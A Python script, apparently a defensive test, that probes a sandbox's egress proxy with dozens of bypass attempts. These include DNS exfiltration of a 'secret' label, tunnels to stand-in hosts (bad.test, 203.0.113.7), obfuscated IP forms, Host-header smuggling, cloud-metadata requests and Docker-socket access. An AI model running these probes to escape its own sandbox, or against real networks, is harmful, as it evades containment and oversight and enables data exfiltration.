"""Ways out of a sandbox behind the egress proxy. Run inside: prints a line of JSON per way, with what it got."""

# ruff: noqa: T201
import json
import socket
import ssl
import struct
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from functools import partial

PROXY = ("127.0.0.1", 3128)
TIMEOUT_S = 3


def ask(data: bytes, place: tuple[str, int] = PROXY) -> bytes:
    with socket.create_connection(place, TIMEOUT_S) as link:
        link.sendall(data)
        return receive(link)


def receive(link: socket.socket) -> bytes:
    text = b""
    with suppress(TimeoutError, ConnectionError):
        while part := link.recv(4096):
            text += part
    return text


def tunnel(target: str, name: str | None = None, data: bytes | None = None) -> bytes:
    """Ask for a tunnel; then send ``data``, or a TLS hello for ``name`` and a request."""
    link = socket.create_connection(PROXY, TIMEOUT_S)
    link.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
    answer = link.recv(4096)
    if b" 200 " not in answer:
        return answer
    if data is not None:
        link.sendall(data)
        return receive(link)
    context = ssl._create_unverified_context()
    secure = context.wrap_socket(link, server_hostname=name)
    secure.sendall(f"GET / HTTP/1.0\r\nHost: {name}\r\n\r\n".encode())
    return receive(secure)


def datagram(data: bytes, place: tuple[str, int], family: int = socket.AF_INET) -> bytes:
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.settimeout(TIMEOUT_S)
        link.sendto(data, place)
        return link.recv(4096)


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def icmp(address: str) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        link.settimeout(TIMEOUT_S)
        link.sendto(b"\x08\0\xf7\xff\0\0\0\0", (address, 0))
        return link.recv(100)


def abstract(name: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(TIMEOUT_S)
        link.connect(name)
        return b"connected"


def get(url: str, *headers: str) -> bytes:
    return ask("\r\n".join([f"GET {url} HTTP/1.1", *headers, "", ""]).encode())


QUIC = b"\xc0\0\0\0\1\x08" + bytes(1200)
BAD = ("bad.test", "203.0.113.7")
DIRECT = ("203.0.113.7", "8.8.8.8", "169.254.169.254", "10.0.0.1", "192.168.0.1", "172.17.0.1", "100.100.100.200")
WAYS: dict[str, Callable[[], bytes]] = {
    **{f"connect to {host}:{port}": partial(ask, b"x", (host, port)) for host in DIRECT for port in (80, 443)},
    "connect to bad.test": lambda: ask(b"x", (BAD[0], 443)),
    "connect by IPv6": lambda: ask(b"x", ("2606:4700::1111", 443)),
    "DNS to 8.8.8.8": lambda: datagram(question("secret.bad.test"), ("8.8.8.8", 53)),
    "DNS by TCP": lambda: ask(question("bad.test"), ("8.8.8.8", 53)),
    "DNS by IPv6": lambda: datagram(question("bad.test"), ("2001:4860:4860::8888", 53), socket.AF_INET6),
    "DNS of a bad name here": lambda: datagram(question("secret.bad.test"), ("127.0.0.1", 53))[12:] and b"",
    "HTTP/3 directly": lambda: datagram(QUIC, ("203.0.113.7", 443)),
    "HTTP/3 to the proxy": lambda: datagram(QUIC, PROXY),
    "ICMP": lambda: icmp("8.8.8.8"),
    "abstract socket": lambda: abstract("\0/containerd-shim/x"),
    "docker socket": lambda: abstract("/var/run/docker.sock"),
    "multicast": lambda: datagram(b"x", ("224.0.0.251", 5353)),
    "broadcast": lambda: datagram(b"x", ("255.255.255.255", 9)),
    "tunnel to a bad name": lambda: tunnel("bad.test:443", "bad.test"),
    "tunnel to an address": lambda: tunnel("203.0.113.7:443", "good.test"),
    "tunnel to its IPv6": lambda: tunnel("[2606:4700::1111]:443", "good.test"),
    "tunnel to a mapped address": lambda: tunnel("[::ffff:203.0.113.7]:443", "good.test"),
    "tunnel to a number": lambda: tunnel("3405803783:443", "good.test"),
    "tunnel to an octal address": lambda: tunnel("0313.0.0161.07:443", "good.test"),
    "tunnel to a hexadecimal address": lambda: tunnel("0xcb007107:443", "good.test"),
    "tunnel to metadata": lambda: tunnel("169.254.169.254:443", "good.test"),
    "tunnel to this host": lambda: tunnel("127.0.0.1:443", "good.test"),
    "tunnel to localhost": lambda: tunnel("localhost:443", "localhost"),
    "tunnel to the proxy": lambda: tunnel("127.0.0.1:3128", "good.test"),
    "tunnel to port 22": lambda: tunnel("good.test:22", data=b"SSH-2.0-x\r\n"),
    "tunnel to port 80": lambda: tunnel("good.test:80", data=b"GET / HTTP/1.0\r\nHost: bad.test\r\n\r\n"),
    "tunnel to port 8443": lambda: tunnel("good.test:8443", "good.test"),
    "tunnel to port 0": lambda: tunnel("good.test:0", "good.test"),
    "tunnel with another server name": lambda: tunnel("good.test:443", "bad.test"),
    "tunnel without a server name": lambda: tunnel("good.test:443", None),
    "tunnel with text": lambda: tunnel("good.test:443", data=b"secret\r\n" * 100),
    "tunnel with HTTP": lambda: tunnel("good.test:443", data=b"GET / HTTP/1.0\r\nHost: bad.test\r\n\r\n"),
    "tunnel with SSH": lambda: tunnel("good.test:443", data=b"SSH-2.0-OpenSSH_9\r\n"),
    "tunnel with half a hello": lambda: tunnel("good.test:443", data=b"\x16\x03\x01\x02\x00\x01"),
    "tunnel with a split hello": lambda: tunnel("good.test:443", data=b"\x16\x03\x01\x00\x04\x01\x00\x01\xfc" * 2),
    "tunnel with a user": lambda: tunnel("good.test@bad.test:443", "bad.test"),
    "tunnel with a NUL": lambda: tunnel("bad.test\0.good.test:443", "good.test"),
    "tunnel with a path": lambda: tunnel("good.test:443/../bad.test", "good.test"),
    "tunnel to a name below": lambda: tunnel("evil.good.test:443", "evil.good.test"),
    "tunnel to a name around": lambda: tunnel("good.test.bad.test:443", "good.test.bad.test"),
    "tunnel to a name that is inside": lambda: tunnel("inner.test:443", "inner.test"),
    "tunnel to a name in dots": lambda: tunnel("..good.test:443", "good.test"),
    "tunnel to a name that is too long": lambda: tunnel(f"{'a' * 64}.wild.test:443", "good.test"),
    "tunnel to a name of data": lambda: tunnel(f"{'a' * 60}.bad.test:443", "good.test"),
    "request to a bad name": lambda: get("http://bad.test/", "Host: good.test"),
    "request with a bad Host": lambda: get("/", "Host: bad.test"),
    "request with two Hosts": lambda: get("/", "Host: good.test", "Host: bad.test"),
    "request with a hidden Host": lambda: get("/", "Host: good.test\nHost: bad.test"),
    "request with a folded Host": lambda: get("/", "Host: good.test", " .bad.test"),
    "request to an address": lambda: get("http://203.0.113.7/", "Host: good.test"),
    "request to metadata": lambda: get("http://169.254.169.254/latest/meta-data/", "Host: good.test"),
    "request to metadata by name": lambda: get("http://metadata.google.internal/", "Metadata-Flavor: Google"),
    "request to a name that is inside": lambda: get("http://inner.test/"),
    "request to port 22": lambda: get("http://good.test:22/"),
    "request to port 443": lambda: get("http://good.test:443/"),
    "request to the proxy": lambda: get("http://127.0.0.1:3128/"),
    "request to half an address": lambda: get("http://[::1/"),
    "request of FTP": lambda: get("ftp://bad.test/"),
    "request of HTTPS": lambda: get("https://bad.test/"),
    "request with a user": lambda: get("http://good.test@bad.test/"),
    "request of HTTP/2": lambda: ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "request of SOCKS 4": lambda: ask(b"\x04\x01\x01\xbb" + socket.inet_aton("203.0.113.7") + b"\0"),
    "request of SOCKS 5": lambda: ask(b"\x05\x01\x00"),
    "TLS to the proxy": lambda: ask(b"\x16\x03\x01\x00\x05hello"),
    "a second request": lambda: ask(b"GET http://good.test/ HTTP/1.1\r\n\r\nGET http://bad.test/x HTTP/1.1\r\n\r\n"),
    "a redirect": lambda: get("http://good.test/redirect"),
}


def attempt(name: str) -> list[str]:
    try:
        return [name, WAYS[name]().decode("latin-1"), ""]
    except Exception as error:  # noqa: BLE001 - any failure closes the way
        return [name, "", type(error).__name__]


if __name__ == "__main__":
    with ThreadPoolExecutor(16) as pool:
        for line in pool.map(attempt, WAYS):
            print(json.dumps(line))
